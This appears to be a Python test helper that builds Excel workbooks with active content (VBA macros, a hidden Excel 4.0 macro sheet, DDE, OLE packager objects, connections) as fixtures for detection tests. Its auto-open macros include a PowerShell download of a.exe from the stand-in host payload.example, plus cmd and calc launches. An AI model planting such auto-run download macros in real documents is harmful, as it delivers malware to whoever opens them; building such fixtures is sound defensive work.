"""Workbooks with active content, built by test code: a template-written campaign workbook whose zip parts are
edited the way Excel lays them out (parts, relationships, content types — with ``hostile.Package``), and a genuine
VBA project written by LibreOffice (``vba_project``) — nothing here is copied from elsewhere.

Each builder takes the path of a workbook the template writer made and adds one kind of active content.
"""

from __future__ import annotations

import base64
import functools
import io
import os
import re
import struct
import subprocess
import tempfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from xml.sax.saxutils import escape

import pytest

from .hostile import (
    ANCHOR,
    CT,
    DRAWING_NS,
    MINI_CUTOFF,
    MS_REL,
    NS_MAIN,
    NS_R,
    REL,
    TEXT_BOX,
    Package,
    compound_file,
)

MACRO_ENABLED = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"


def edit(path: Path, change: Callable[[Package], None]) -> Path:
    """Apply ``change`` to the parts of the workbook at ``path`` and write it back."""
    package = Package(path)
    change(package)
    return package.save()


def sheet_part(package: Package, name: str) -> str:
    """The part of the sheet called ``name`` (through the workbook's relationships)."""
    workbook = package.parts["xl/workbook.xml"].decode()
    element = next(m[0] for m in re.finditer(r"<sheet\b[^>]*>", workbook) if f'name="{escape(name)}"' in m[0])
    rid = re.search(r'r:id="([^"]+)"', element)[1]  # type: ignore[index]
    rels = package.parts["xl/_rels/workbook.xml.rels"].decode()
    rel = next(m[0] for m in re.finditer(r"<Relationship\b[^>]*>", rels) if f'Id="{rid}"' in m[0])
    target = re.search(r'Target="([^"]+)"', rel)[1]  # type: ignore[index]
    return target.lstrip("/") if target.startswith("/") else "xl/" + target


def add_sheet(package: Package, name: str, part: str, rel_type: str, content_type: str, xml: str,
              state: str = "visible") -> None:
    """A new sheet (a worksheet, a macro sheet …) listed in the workbook."""
    package.add(part, xml.encode(), content_type)
    rid = package.relate("xl/workbook.xml", rel_type, part)
    workbook = package.parts["xl/workbook.xml"].decode()
    sheet_id = max(int(n) for n in re.findall(r'sheetId="(\d+)"', workbook)) + 1
    element = f'<sheet xmlns:r="{NS_R}" name="{escape(name)}" sheetId="{sheet_id}" state="{state}" r:id="{rid}"/>'
    package.parts["xl/workbook.xml"] = workbook.replace("</sheets>", element + "</sheets>").encode()


def add_defined_name(package: Package, name: str, formula: str) -> None:
    workbook = package.parts["xl/workbook.xml"].decode()
    element = f'<definedName name="{escape(name)}">{escape(formula)}</definedName>'
    if "</definedNames>" in workbook:
        workbook = workbook.replace("</definedNames>", element + "</definedNames>")
    else:
        workbook = workbook.replace("</sheets>", f"</sheets><definedNames>{element}</definedNames>")
    package.parts["xl/workbook.xml"] = workbook.encode()


def _external_reference(package: Package, part: str) -> None:
    """List the external link ``part`` in the workbook's externalReferences, as Excel does."""
    rid = package.relate("xl/workbook.xml", REL + "externalLink", part)
    package.workbook_insert(f'<externalReferences><externalReference xmlns:r="{NS_R}" r:id="{rid}"/>'
                            "</externalReferences>", "definedNames")


# --- one builder per kind ----------------------------------------------------------------------------------------

def with_vba(vba: bytes) -> Callable[[Package], None]:
    """The VBA project ``vba`` (the bytes of a vbaProject.bin) in a macro-enabled workbook."""
    def change(package: Package) -> None:
        package.add("xl/vbaProject.bin", vba, "application/vnd.ms-office.vbaProject")
        package.relate("xl/workbook.xml", MS_REL + "2006/relationships/vbaProject", "xl/vbaProject.bin")
        package.set_content_type("xl/workbook.xml", MACRO_ENABLED)
    return change


MACRO_SHEET = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<xm:macrosheet xmlns="{NS_MAIN}" '
               'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1">'
               '<c r="A1"><f>EXEC("calc.exe")</f></c></row><row r="2"><c r="A2"><f>HALT()</f></c></row></sheetData>'
               "</xm:macrosheet>")


def macro_sheet(package: Package) -> None:
    """A very hidden Excel 4.0 macro sheet "Macro1" that runs EXEC on open (``_xlnm.Auto_Open``)."""
    add_sheet(package, "Macro1", "xl/macrosheets/sheet1.xml", MS_REL + "2006/relationships/xlMacrosheet",
              "application/vnd.ms-excel.macrosheet+xml", MACRO_SHEET, state="veryHidden")
    add_defined_name(package, "_xlnm.Auto_Open", "Macro1!$A$1")
    package.set_content_type("xl/workbook.xml", MACRO_ENABLED)


def external_workbook(target: str) -> Callable[[Package], None]:
    """A link to another workbook at ``target``, as Excel writes one: an externalLink part, the path it names, the
    workbook's externalReferences."""
    def change(package: Package) -> None:
        part = "xl/externalLinks/externalLink1.xml"
        package.add(part, (f'<externalLink xmlns="{NS_MAIN}"><externalBook xmlns:r="{NS_R}" r:id="rId1"><sheetNames>'
                           '<sheetName val="Sheet1"/></sheetNames><sheetDataSet><sheetData sheetId="0"/>'
                           "</sheetDataSet></externalBook></externalLink>").encode(), CT + "spreadsheetml.externalLink+xml")
        package.parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
            f'Id="rId1" Type="{REL}externalLinkPath" Target="{escape(target)}" TargetMode="External"/>'
            "</Relationships>").encode()
        _external_reference(package, part)
    return change


def dde_link(package: Package) -> None:
    """A DDE link part, as Excel saves the link behind ``=cmd|' /C calc'!A0``."""
    part = "xl/externalLinks/externalLink1.xml"
    package.add(part, (f'<externalLink xmlns="{NS_MAIN}"><ddeLink ddeService="cmd" ddeTopic=" /C calc"><ddeItems>'
                       '<ddeItem name="A0" advise="1"/><ddeItem name="StdDocumentName" ole="1" advise="1"/>'
                       "</ddeItems></ddeLink></externalLink>").encode(), CT + "spreadsheetml.externalLink+xml")
    _external_reference(package, part)


CONNECTIONS = (f'<connections xmlns="{NS_MAIN}">'
               '<connection id="1" name="Sales feed" type="4" refreshedVersion="6" refreshOnLoad="1" background="1" '
               'saveData="1"><webPr sourceData="1" parsePre="1" consecutive="1" xl2000="1" '
               'url="https://data.example/export.csv"/></connection>'
               '<connection id="2" name="Finance DB" type="1" refreshedVersion="6" savePassword="1">'
               '<dbPr connection="DSN=finance;UID=ops;PWD=hunter2;" command="SELECT * FROM budget"/></connection>'
               "</connections>")


def connections(package: Package) -> None:
    """A web query that refreshes on open and fills a query table on "Daily KPI", and an ODBC connection that
    stores its password."""
    package.add("xl/connections.xml", CONNECTIONS.encode(), CT + "spreadsheetml.connections+xml")
    package.relate("xl/workbook.xml", REL + "connections", "xl/connections.xml")
    package.add("xl/queryTables/queryTable1.xml", (
        f'<queryTable xmlns="{NS_MAIN}" name="Sales feed" connectionId="1" autoFormatId="16" applyNumberFormats="0" '
        'applyBorderFormats="0" applyFontFormats="1" applyPatternFormats="1" applyAlignmentFormats="0" '
        'applyWidthHeightFormats="0"/>').encode(), CT + "spreadsheetml.queryTable+xml")
    package.relate(sheet_part(package, "Daily KPI"), REL + "queryTable", "xl/queryTables/queryTable1.xml")


M_CODE = ('section Section1;\r\n\r\nshared Rates = let\r\n    Source = Web.Contents("https://rates.example/today"),\r\n'
          '    Table = Csv.Document(Source)\r\nin\r\n    Table;\r\n\r\nshared #"Old plan" = let\r\n'
          '    Source = Excel.Workbook(File.Contents("\\\\fileserver\\plans\\old.xlsx"), null, true)\r\nin\r\n'
          "    Source;")


def data_mashup(code: str = M_CODE) -> bytes:
    """A DataMashup as MS-QDEFF lays it out: version, the package parts (a zip holding Formulas/Section1.m),
    permissions, metadata and permission bindings, each behind its length."""
    parts = io.BytesIO()
    with zipfile.ZipFile(parts, "w", zipfile.ZIP_DEFLATED) as inner:
        inner.writestr("[Content_Types].xml", '<?xml version="1.0" encoding="utf-8"?><Types xmlns="http://schemas.'
                       'openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="text/xml"'
                       ' /><Default Extension="m" ContentType="application/x-ms-m" /></Types>')
        inner.writestr("Config/Package.xml", '<?xml version="1.0" encoding="utf-8"?><Package xmlns:xsd="http://www.'
                       'w3.org/2001/XMLSchema"><Version>2.72.0</Version><MinVersion>2.21.0</MinVersion></Package>')
        inner.writestr("Formulas/Section1.m", code)
    package = parts.getvalue()
    permissions = b'<?xml version="1.0" encoding="utf-8"?><PermissionList/>'
    return (struct.pack("<II", 0, len(package)) + package + struct.pack("<I", len(permissions)) + permissions
            + struct.pack("<II", 0, 0))


def power_query(package: Package) -> None:
    """Power Query queries in custom XML (UTF-16, as Excel writes the DataMashup item)."""
    encoded = base64.b64encode(data_mashup()).decode("ascii")
    item = ('<?xml version="1.0" encoding="utf-16"?><DataMashup xmlns="http://schemas.microsoft.com/DataMashup">'
            f"{encoded}</DataMashup>")
    package.add("customXml/item1.xml", b"\xff\xfe" + item.encode("utf-16-le"))
    package.add("customXml/itemProps1.xml", (b'<ds:datastoreItem ds:itemID="{A1B2C3D4-0000-4000-8000-000000000001}" '
                                             b'xmlns:ds="http://schemas.openxmlformats.org/officeDocument/2006/'
                                             b'customXml"><ds:schemaRefs/></ds:datastoreItem>'),
                CT + "customXmlProperties+xml")
    package.relate("customXml/item1.xml", REL + "customXmlProps", "customXml/itemProps1.xml")
    package.relate("xl/workbook.xml", REL + "customXml", "customXml/item1.xml")


def embedded_workbook(sheet: str) -> Callable[[Package], None]:
    """An embedded OLE object on ``sheet``: another workbook, as Excel embeds one (progId Excel.Sheet.12)."""
    def change(package: Package) -> None:
        inner = io.BytesIO()
        with zipfile.ZipFile(inner, "w") as other:
            other.writestr("xl/workbook.xml", f'<workbook xmlns="{NS_MAIN}"/>')
        part = "xl/embeddings/Microsoft_Excel_Worksheet.xlsx"
        package.add(part, inner.getvalue(), CT + "spreadsheetml.sheet")
        owner = sheet_part(package, sheet)
        rid = package.relate(owner, REL + "package", part)
        package.sheet_insert(owner, f'<oleObjects><oleObject xmlns:r="{NS_R}" progId="Excel.Sheet.12" shapeId="1025" '
                                    f'r:id="{rid}"/></oleObjects>')
    return change


def packaged_file(sheet: str, name: str) -> Callable[[Package], None]:
    """An OLE Packager object on ``sheet`` carrying the file ``name`` (an Ole10Native stream in a compound file):
    double-clicking it in Excel opens or runs that file."""
    def change(package: Package) -> None:
        body = name.encode("latin-1") + b"\0" + (b"C:\\Users\\Public\\" + name.encode("latin-1")) + b"\0"
        native = struct.pack("<I", len(body) + 2) + b"\x02\x00" + body
        blob = compound_file({"\x01Ole10Native": native.ljust(MINI_CUTOFF, b"\0")})
        part = "xl/embeddings/oleObject1.bin"
        package.add(part, blob, CT + "oleObject")
        owner = sheet_part(package, sheet)
        rid = package.relate(owner, REL + "oleObject", part)
        package.sheet_insert(owner, f'<oleObjects><oleObject xmlns:r="{NS_R}" progId="Package" shapeId="1027" '
                                    f'r:id="{rid}"/></oleObjects>')
    return change


def activex_button(sheet: str) -> Callable[[Package], None]:
    """An ActiveX command button ``CommandButton1`` on ``sheet``."""
    def change(package: Package) -> None:
        part = "xl/activeX/activeX1.xml"
        package.add(part, ('<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
                           f'xmlns:r="{NS_R}" ax:classid="{{D7053240-CE69-11CD-A777-00DD01143C57}}" '
                           'ax:persistence="persistPropertyBag"><ax:ocxPr ax:name="Caption" ax:value="Run"/>'
                           "</ax:ocx>").encode(), "application/vnd.ms-office.activeX+xml")
        owner = sheet_part(package, sheet)
        rid = package.relate(owner, REL + "control", part)
        package.sheet_insert(owner, f'<controls><control xmlns:r="{NS_R}" shapeId="1026" r:id="{rid}" '
                                    'name="CommandButton1"/></controls>')
    return change


def shape_link(sheet: str, target: str) -> Callable[[Package], None]:
    """A text box on ``sheet`` whose click opens ``target``."""
    def change(package: Package) -> None:
        drawing = "xl/drawings/drawing1.xml"
        link = package.relate(drawing, REL + "hyperlink", target, external=True)
        box = TEXT_BOX.replace('name="TextBox 1"/>', f'name="TextBox 1"><a:hlinkClick r:id="{link}"/></xdr:cNvPr>')
        package.add(drawing, (f'<xdr:wsDr {DRAWING_NS}><xdr:twoCellAnchor>{ANCHOR}{box}<xdr:clientData/>'
                              "</xdr:twoCellAnchor></xdr:wsDr>").encode(), CT + "drawing+xml")
        owner = sheet_part(package, sheet)
        rid = package.relate(owner, REL + "drawing", drawing)
        package.sheet_insert(owner, f'<drawing xmlns:r="{NS_R}" r:id="{rid}"/>')
    return change


# --- a genuine VBA project, written by LibreOffice ------------------------------------------------------------------

UNO_SCRIPT = r'''
import os, subprocess, sys, time
import uno
from com.sun.star.beans import PropertyValue
from com.sun.star.script import ModuleInfo

out, profile, modules_file = sys.argv[1], sys.argv[2], sys.argv[3]
pipe = "xlc_vba_%d" % os.getpid()
office = subprocess.Popen(["soffice", "-env:UserInstallation=" + uno.systemPathToFileUrl(profile), "--headless",
                           "--invisible", "--norestore", "--accept=pipe,name=%s;urp;" % pipe],
                          stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
local = uno.getComponentContext()
resolver = local.ServiceManager.createInstanceWithContext("com.sun.star.bridge.UnoUrlResolver", local)
context = None
for _ in range(300):
    try:
        context = resolver.resolve("uno:pipe,name=%s;urp;StarOffice.ComponentContext" % pipe)
        break
    except Exception:
        time.sleep(0.2)
desktop = None
try:
    desktop = context.ServiceManager.createInstanceWithContext("com.sun.star.frame.Desktop", context)

    def prop(name, value):
        p = PropertyValue()
        p.Name, p.Value = name, value
        return p

    doc = desktop.loadComponentFromURL("private:factory/scalc", "_blank", 0, (prop("Hidden", True),))
    libraries = doc.BasicLibraries
    libraries.VBACompatibilityMode = True
    libraries.ProjectName = "VBAProject"
    library = libraries.createLibrary("VBAProject")
    # modules file: blocks "name|kind" line, then the source, separated by a line holding only "\x1e"
    for block in open(modules_file, encoding="utf-8").read().split("\n\x1e\n"):
        header, source = block.split("\n", 1)
        name, kind = header.split("|")
        info = ModuleInfo()
        info.ModuleType = uno.getConstantByName("com.sun.star.script.ModuleType." + kind)
        library.insertModuleInfo(name, info)
        library.insertByName(name, source)
    doc.Sheets.getByIndex(0).getCellByPosition(0, 0).setString("x")
    doc.storeToURL(uno.systemPathToFileUrl(out), (prop("FilterName", "Calc MS Excel 2007 VBA XML"),))
    doc.close(True)
finally:
    if desktop is not None:
        try:
            desktop.terminate()
        except Exception:
            pass
    try:
        office.wait(timeout=30)
    except subprocess.TimeoutExpired:
        office.kill()
'''


def _uno_python() -> str | None:
    """A Python that can import LibreOffice's ``uno`` bridge (Debian: python3-uno), else None."""
    for folder in os.get_exec_path():  # the system's python3 carries the bridge, a virtual environment's does not
        candidate = os.path.join(folder, "python3")
        if os.path.isfile(candidate) and subprocess.run([candidate, "-c", "import uno"],
                                                        capture_output=True).returncode == 0:
            return candidate
    return None


@functools.cache
def vba_project(modules: tuple[tuple[str, str, str], ...]) -> bytes:
    """The vbaProject.bin LibreOffice writes for a workbook with the VBA ``modules`` ((name, NORMAL|DOCUMENT,
    source), in VBA-compatibility mode): a real MS-OVBA project that olevba reads back. Skips (fails under CI)
    without LibreOffice and its Python bridge."""
    from .conftest import need_soffice

    need_soffice()
    python = _uno_python()
    if python is None:
        if os.environ.get("CI"):
            pytest.fail("LibreOffice's Python bridge is missing; .ci/run must install Debian's python3-uno")
        pytest.skip("LibreOffice's Python bridge (python3-uno) is not installed")
    with tempfile.TemporaryDirectory(prefix="lo-vba-") as folder:
        script, spec, out = Path(folder, "make.py"), Path(folder, "modules.txt"), Path(folder, "made.xlsm")
        script.write_text(UNO_SCRIPT, encoding="utf-8")
        spec.write_text("\n\x1e\n".join(f"{name}|{kind}\n{source}" for name, kind, source in modules),
                        encoding="utf-8")
        result = subprocess.run([python, str(script), str(out), str(Path(folder, "profile")), str(spec)],
                                capture_output=True, text=True, timeout=240)
        assert out.exists(), f"LibreOffice wrote no workbook: {result.stdout} {result.stderr}"
        with zipfile.ZipFile(out) as made:
            return made.read("xl/vbaProject.bin")


AUTO_OPEN = (
    ("ThisWorkbook", "DOCUMENT", "Rem Attribute VBA_ModuleType=VBADocumentModule\nOption VBASupport 1\n"
                                 "Private Sub Workbook_Open()\n    Set shell = CreateObject(\"WScript.Shell\")\n"
                                 "    shell.Run \"powershell -c Invoke-WebRequest https://payload.example/a.exe\"\n"
                                 "End Sub\n"),
    ("Sheet1", "DOCUMENT", "Rem Attribute VBA_ModuleType=VBADocumentModule\nOption VBASupport 1\n"
                           "Private Sub Worksheet_Change(ByVal Target As Range)\n    Beep\nEnd Sub\n"),
    ("Module1", "NORMAL", "Rem Attribute VBA_ModuleType=VBAModule\nOption VBASupport 1\nSub Auto_Open()\n"
                          "    Shell \"cmd /c calc.exe\"\nEnd Sub\n"),
)


def xlwings_vba() -> bytes:
    """The VBA project of the quickstart workbook shipped with the installed xlwings (made by Excel; its one
    module ``SampleCall`` runs only when called)."""
    import xlwings

    with zipfile.ZipFile(Path(xlwings.__file__).parent / "quickstart.xlsm") as quickstart:
        return quickstart.read("xl/vbaProject.bin")
